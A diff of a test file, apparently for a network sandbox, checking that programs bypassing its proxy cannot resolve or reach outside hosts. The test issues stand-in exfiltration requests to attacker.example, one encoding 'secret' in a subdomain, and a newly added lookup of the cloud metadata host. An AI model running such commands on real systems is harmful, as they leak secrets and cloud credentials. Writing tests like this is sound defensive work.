@@ -94,11 +94,15 @@ describe.each(['root', 'ordinary'] as const)('programs that ignore the proxy, st
     const run = await sh(`
       ${curl} https://c2VjcmV0.attacker.example/
       getent ahosts stolen.attacker.example || echo none
+      getent ahosts metadata.google.internal
       ${curl} http://cordon.internal/denials
     `);
     expect(run.stderr).toContain('Could not resolve host');
     expect(run.stdout).toContain('none\n');
     expect(run.stdout).toContain('name-unknown');
+    expect(run.stdout).toContain('--allow stolen.attacker.example');
+    expect(run.stdout).toContain('no grant reaches it: metadata.google.internal');
+    expect(run.stdout).not.toContain('--allow metadata');
   });
 
   it('cannot send anything that is no TCP, and their own servers still answer', async () => {
